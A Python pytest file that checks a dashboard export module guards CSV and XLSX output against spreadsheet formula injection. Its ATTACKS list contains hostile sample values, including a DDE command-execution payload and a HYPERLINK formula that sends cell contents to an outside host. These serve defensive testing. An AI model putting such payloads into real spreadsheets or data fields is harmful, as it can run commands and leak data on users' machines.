"""Exports are safe against formula injection: no <f> in the sheet XML, no csv cell that a
spreadsheet would run, numbers still numbers, control characters gone."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date

import pandas as pd
import pytest

from dashboards.export import file_name, to_csv, to_xlsx

ATTACKS = [
    '=HYPERLINK("http://x/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "|calc",
    "%0A=1",
    "Acme\x00Co\x07",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "%")


@pytest.fixture
def tables() -> list[tuple[str, pd.DataFrame]]:
    frame = pd.DataFrame(
        {
            "name": ATTACKS,
            "score": [float(i) for i in range(len(ATTACKS))],
            "delta": [-5] * len(ATTACKS),
            "audit": [date(2025, 1, 2)] + [None] * (len(ATTACKS) - 1),
        }
    )
    return [("=Suppliers", frame), ("Summary", pd.DataFrame({"=measure": ["@x"], "value": [1]}))]


def test_xlsx_has_no_formula_anywhere(tables: list[tuple[str, pd.DataFrame]]) -> None:
    book = zipfile.ZipFile(io.BytesIO(to_xlsx(tables)))
    sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
    assert len(sheets) == 2
    for name in sheets:
        assert "<f>" not in book.read(name).decode() and "<f " not in book.read(name).decode()
    strings = book.read("xl/sharedStrings.xml").decode()
    assert "'=cmd|' /C calc'!A0" in strings and "'+1+1" in strings and "'@SUM(1)" in strings
    assert "'=measure" in strings  # headers too
    assert "\x00" not in strings and "AcmeCo" in strings
    workbook = book.read("xl/workbook.xml").decode()
    assert re.findall(r'<sheet name="([^"]+)"', workbook) == ["1 Suppliers", "2 Summary"]


def test_xlsx_keeps_numbers_and_dates_as_numbers(tables: list[tuple[str, pd.DataFrame]]) -> None:
    frame = pd.read_excel(io.BytesIO(to_xlsx(tables)), sheet_name=0, engine="openpyxl")
    assert frame["delta"].tolist() == [-5] * len(ATTACKS)
    assert frame["score"].dtype.kind in "if" and frame["score"].iloc[3] == 3
    assert frame["audit"].iloc[0] == pd.Timestamp("2025-01-02")


def test_csv_has_no_cell_a_spreadsheet_would_run(tables: list[tuple[str, pd.DataFrame]]) -> None:
    text = to_csv(tables).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    strings = [c for c in cells if not re.fullmatch(r"-?\d+(\.\d+)?", c)]
    assert strings, "the export is empty"
    assert not [c for c in strings if c.startswith(TRIGGERS)]
    assert "'=cmd|' /C calc'!A0" in cells and "-5" in cells  # a negative number stays a number
    assert "AcmeCo" in cells and "2025-01-02" in cells
    assert "'=Suppliers" in cells  # table titles are neutralised too


def test_single_table_csv_is_a_plain_table() -> None:
    text = to_csv([("Suppliers", pd.DataFrame({"a": [1], "b": ["x"]}))]).decode("utf-8-sig")
    assert text.splitlines() == ["a,b", "1,x"]


def test_file_names_are_generated() -> None:
    assert file_name("overview", "xlsx", date(2026, 1, 2)) == "supplychain-overview-2026-01-02.xlsx"
